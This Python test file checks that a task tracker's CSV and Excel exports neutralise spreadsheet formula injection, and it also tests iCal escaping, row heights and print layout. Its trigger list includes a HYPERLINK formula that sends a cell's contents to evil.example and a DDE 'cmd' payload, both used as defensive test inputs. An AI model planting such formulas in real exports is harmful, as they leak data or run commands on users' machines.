"""tasktrack.sheets: text never becomes a formula or breaks the file; numbers and dates stay typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from tasktrack import sheets
from tasktrack.domain.ical import escape_text

TRIGGERS = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A1",
            '=HYPERLINK("http://evil.example/?x="&C2,"点击查看")', "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_csv_text_that_starts_a_formula_gets_a_quote(text: str) -> None:
    data = sheets.csv_bytes(["h"], [[text]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["h"], ["'" + text]]


def test_csv_keeps_numbers_dates_and_ordinary_text() -> None:
    data = sheets.csv_bytes(["a", "b", "c", "d", "e"], [[-3, dt.date(2024, 7, 1), None, "进展 =1", "a\x01b"]])
    assert data.decode("utf-8-sig").splitlines()[1] == "-3,2024-07-01,,进展 =1,a\ufffdb"


def test_xlsx_text_is_a_string_cell_and_the_file_has_no_formula() -> None:
    wb = Workbook()
    ws = wb.active
    sheets.append_row(ws, ["标题", "数", "日期"])
    for text in TRIGGERS:
        sheets.append_row(ws, [text, 5, dt.date(2024, 7, 1)])
    sheets.append_row(ws, ["a\x00b\x0bc", None, None])
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    back = load_workbook(io.BytesIO(buffer.getvalue())).active
    rows = list(back.iter_rows(min_row=2))
    assert [r[0].value for r in rows[:-1]] == TRIGGERS
    assert {r[0].data_type for r in rows} == {"s"}
    assert rows[0][1].value == 5
    assert rows[0][2].value.date() == dt.date(2024, 7, 1)
    assert rows[-1][0].value == "a\ufffdb\ufffdc"


def test_ical_text_holds_no_control_characters() -> None:
    assert escape_text("甲\x01乙,丙\n丁") == "甲\ufffd乙\\,丙\\n丁"


def test_text_lines_count_wide_characters_as_one_em_and_paragraphs_apart() -> None:
    # Width 20 = 165 px; usable (165 - 6) × 0.9 = 143 px; an 11 pt CJK character is 14.67 px: 9 a line.
    assert sheets.text_lines("", 20, 11) == 1
    assert sheets.text_lines("甲" * 9, 20, 11) == 1
    assert sheets.text_lines("甲" * 10, 20, 11) == 2
    assert sheets.text_lines("a" * 17, 20, 11) == 1  # Latin letters are about half as wide
    assert sheets.text_lines("甲" * 9 + "\n" + "乙\n\n丙", 20, 11) == 4
    assert sheets.text_lines("甲" * 40, 40, 11) < sheets.text_lines("甲" * 40, 20, 11)


def test_row_height_follows_the_cell_that_needs_most_lines() -> None:
    one = sheets.row_height([("短", 20)], 11)
    three = sheets.row_height([("短", 20), ("甲" * 20, 20)], 11)
    assert one == round(11 * sheets.LINE_PITCH + 6, 1)
    assert three == round(3 * 11 * sheets.LINE_PITCH + 6, 1)
    assert sheets.row_height([], 11) == one
    assert sheets.row_height([("甲" * 5000, 10)], 11) == sheets.MAX_ROW_HEIGHT  # Excel's limit


def test_print_setup_is_a4_landscape_one_page_wide_with_titles_and_page_footer() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    sheets.append_row(ws, ["标题"])
    sheets.print_setup(ws, title_rows="1:1")
    ws = load_workbook(_saved(wb)).active
    assert ws is not None
    setup = ws.page_setup
    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"
    assert ws.oddFooter.center.text == "第 &P 页 共 &N 页"


def test_new_workbook_measures_columns_in_arial_digits() -> None:
    wb = sheets.new_workbook()
    ws = wb.active
    assert ws is not None
    sheets.append_row(ws, ["甲"])
    again = load_workbook(_saved(wb))
    assert again._named_styles["Normal"].font.name == "Arial"
    assert again._fonts[0].name == "Arial"
    assert again.active["A1"].font.name == "Arial"


def _saved(wb: Workbook) -> io.BytesIO:
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    return out


def _table(rows_via_xml: bool) -> dict[str, bytes]:
    """A sheet with a header and rows of every kind of value and look, saved; its parts (the save time aside)."""
    from openpyxl.styles import Alignment, Font, PatternFill

    wb = sheets.new_workbook()
    ws = wb.active
    bold = sheets.cell_style(ws, font=Font(bold=True), fill=PatternFill("solid", fgColor="B3261E"))
    sheets.append_row(ws, ["文本", "数", "日期", "空", "无样式"], [bold] * 4 + [None])
    top = sheets.cell_style(ws, alignment=Alignment(vertical="top", wrap_text=True))
    red = sheets.cell_style(ws, alignment=Alignment(vertical="top"), fill=PatternFill("solid", fgColor="FDECEA"))
    texts = [*TRIGGERS, "", " 前后空格 ", "a & b < c > d \"e\" 'f'", "一\r\n二\n三", "a\x00b\x0bc", "#N/A", "x" * 40000,
             "\ufffe", "普通文本"]
    table = sheets.SheetRows(ws) if rows_via_xml else None
    for i, text in enumerate(texts):
        values: list[sheets.Value] = [text, i if i % 3 else -2.5 * i, dt.date(2024, 7, 1 + i % 28) if i % 4 else None,
                                      None, "无样式" if i % 2 else None]
        styles = [top, red if i % 2 else top, top, top, None]
        if table is not None:
            table.append(values, styles)
        else:
            sheets.append_row(ws, values, styles)
    ws.freeze_panes = "A2"
    data = sheets.save(wb, [table] if table is not None else [])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {name: z.read(name) for name in z.namelist() if name != "docProps/core.xml"}


def test_rows_written_as_xml_are_the_bytes_openpyxl_writes() -> None:
    """sheets.SheetRows writes the very sheet and styles openpyxl writes for the same rows (export speed, issue 16)."""
    assert _table(rows_via_xml=True) == _table(rows_via_xml=False)
    wb = Workbook()
    sheets.append_row(wb.active, ["只有表头"])
    back = load_workbook(io.BytesIO(sheets.save(wb, [sheets.SheetRows(wb.active)]))).active
    assert (back.max_row, back["A1"].value) == (1, "只有表头")
